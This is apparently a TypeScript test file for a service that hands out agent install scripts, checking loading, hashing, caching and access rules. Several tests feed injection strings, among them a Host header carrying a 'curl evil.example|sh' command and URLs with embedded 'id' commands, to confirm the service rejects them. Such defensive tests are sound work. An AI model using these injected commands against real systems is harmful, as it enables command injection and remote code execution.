// The agents that the service hands out: to anybody, with the address of its configuration alone, and loaded only when asked for.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { flushEveryMs } from '../../functions/adoption/adoption.ts';
import { AgentsReply } from '../../functions/api/admin/schemas/agents.ts';
import type { AgentFiles } from '../../functions/api/agents/agent-files.ts';
import { buildAgents } from '../../functions/api/agents/build-agents.ts';
import { makeSigner } from '../../shared/adapters/key-file.ts';
import type { Signer } from '../../shared/ports.ts';
import { asAdmin, asMachine, type Service, startService } from '../support/service.ts';

const address = 'https://pinward.example.com/base';
const scripts = ['/install.sh', '/install.ps1'];

describe('the agents', () => {
  const current: Signer = makeSigner();
  const keys = { organisation: 'acme.example', current, next: null, retiring: null };
  let files: AgentFiles;
  let service: Service;
  let loads = 0;

  before(() => {
    files = buildAgents(process.cwd());
    const loadAgents = async () => {
      loads += 1;
      if (loads === 1) throw new Error('the disk is full');
      return files;
    };
    service = startService({ loadAgents, keys }, { PINWARD_URL: `${address}/` });
  });
  after(() => service.close());

  test('are not loaded by a poll, and loaded once by who asks for them, after a failure again', async () => {
    await service.state();
    const poll = await service.ask().get('/v1/pins.sh').set(asMachine);
    assert.deepEqual([poll.status, loads], [200, 0]);

    const statuses = [];
    for (const path of [...scripts, ...scripts]) statuses.push((await service.ask().get(path)).status);
    assert.deepEqual([statuses, loads], [[500, 200, 200, 200], 2]);
  });

  test('are installed by scripts with the address, organisation, keys and hash of this service', async () => {
    const read = await current.publicKey();
    assert.ok(read.ok);
    for (const [path, system] of [
      ['/install.sh', 'posix'],
      ['/install.ps1', 'windows'],
    ] as const) {
      const { status, headers, text } = await service.ask().get(path);

      assert.equal(status, 200);
      assert.equal(headers['content-type'], 'text/plain; charset=utf-8');
      assert.equal(headers['cache-control'], 'no-store');
      assert.match(
        text,
        /server = ?'https:\/\/pinward\.example\.com\/base'\n|^server='https:\/\/pinward\.example\.com\/base'\n/m,
      );
      assert.match(text, /organisation ?= ?'acme\.example'/);
      assert.ok(text.includes(`'${read.value.id} ${read.value.der.toString('base64')}'`));
      assert.ok(text.includes(`'${files[system].sha256}'`));
      assert.doesNotMatch(text, /@(?:server|version|sha256|organisation|keys)@/);
    }
  });

  test('have the same scripts whatever host, scheme or address a request names', async () => {
    for (const path of scripts) {
      const usual = (await service.ask().get(path)).text;
      for (const [name, value] of [
        ['Host', 'evil.example'],
        ['Host', "';curl$IFS'evil.example;';"],
        ['X-Forwarded-Host', 'evil.example'],
        ['Forwarded', 'host=evil.example;proto=http'],
        ['X-Forwarded-Proto', 'http'],
        ['X-Original-URL', 'https://evil.example/'],
      ] as const)
        assert.equal((await service.ask().get(path).set(name, value)).text, usual, `${name}: ${value}`);
      await service.ask().get(path).set('Host', "';curl evil.example|sh;'").expect(400);
    }
  });

  test('are at an address that is their hash, and may be kept for good', async () => {
    const { body } = await service.ask().get('/v1/agents').set(asAdmin).expect(200);
    const listed = AgentsReply.parse(body);

    assert.deepEqual(
      listed.files.map(({ system }) => system),
      ['posix', 'windows'],
    );
    for (const { path, sha256 } of listed.files) {
      const { headers, text } = await service.ask().get(path).expect(200);

      assert.equal(headers['cache-control'], 'public, max-age=31536000, immutable');
      assert.equal(createHash('sha256').update(text).digest('hex'), sha256);
      assert.ok(path.includes(sha256));
    }
    const unknown = await service.ask().get(`/agents/${'0'.repeat(64)}.sh`);
    assert.deepEqual(
      [unknown.status, unknown.body.code, unknown.headers['cache-control']],
      [404, 'agents_unavailable', 'no-store'],
    );
  });

  test('are counted by the versions that machines run, for readers alone', async () => {
    const poll = (machine: string, agent: string) =>
      service.ask().get(`/v1/pins.sh?machine=${machine}`).set(asMachine).set('User-Agent', agent).expect(200);
    for (const machine of ['a', 'b', 'c']) await poll(machine, 'pinward-agent/0.1.0');
    await poll('e', 'pinward-agent/0.1.0 or so');
    await poll('f', 'curl/8.0.0');
    service.time += flushEveryMs;
    await poll('d', 'pinward-agent/0.0.9');
    const listed = async () => (await service.ask().get('/v1/agents').set(asAdmin).expect(200)).body;
    while ((await listed()).machines.length === 0) await nextTurn();

    assert.equal((await listed()).server, address);
    assert.deepEqual((await listed()).machines, [
      { version: '0.1.0', machines: 3 },
      { version: '0.0.9', machines: 1 },
    ]);
    assert.equal((await service.ask().get('/v1/agents')).status, 401);
    assert.equal((await service.ask().get('/v1/agents').set(asMachine)).status, 403);
  });

  test('are named with their version by every poll, changed or not', async () => {
    const { headers } = await service.ask().get('/v1/pins.sh').set(asMachine).expect(200);
    const etag = headers['etag'] ?? '';
    const again = await service.ask().get('/v1/pins.sh').set(asMachine).set('If-None-Match', etag).expect(304);

    assert.match(headers['pinward-agent'] ?? '', /^\d+\.\d+\.\d+$/);
    assert.equal(again.headers['pinward-agent'], headers['pinward-agent']);
  });
});

test('a service without agents, or without an address of its own, says so, and answers all calls', async () => {
  const files = buildAgents(process.cwd());
  for (const [service, hint] of [
    [startService({}, { PINWARD_URL: address }), /npm run build/],
    [startService({ loadAgents: async () => files }), /PINWARD_URL/],
  ] as const) {
    const { status, body } = await service.ask().get('/install.sh').set('Host', 'evil.example');
    const health = await service.ask().get('/v1/health');
    await service.close();

    assert.deepEqual([status, body.code, health.status], [404, 'agents_unavailable', 200]);
    assert.match(body.hint, hint);
  }
});

test('a service with an address that no machine would take does not start', () => {
  for (const PINWARD_URL of [
    'pinward.example.com',
    'http://pinward.example.com',
    'ftp://pinward.example.com',
    "https://pinward.example.com/';id;'",
    'https://pinward.example.com/$(id)',
    'https://pinward.example.com/\nid',
    'https://ada:secret@pinward.example.com',
  ])
    assert.throws(
      () => startService({}, { PINWARD_URL }),
      /^Error: PINWARD_URL is no address of a service/,
      PINWARD_URL,
    );
});

test('a service without keys hands out scripts that pin none', async () => {
  const files = buildAgents(process.cwd());
  const service = startService({ loadAgents: async () => files }, { PINWARD_URL: address });
  const { text } = await service.ask().get('/install.sh').expect(200);
  await service.close();

  assert.match(text, /^organisation=''$/m);
  assert.match(text, /^public_keys=''$/m);
});
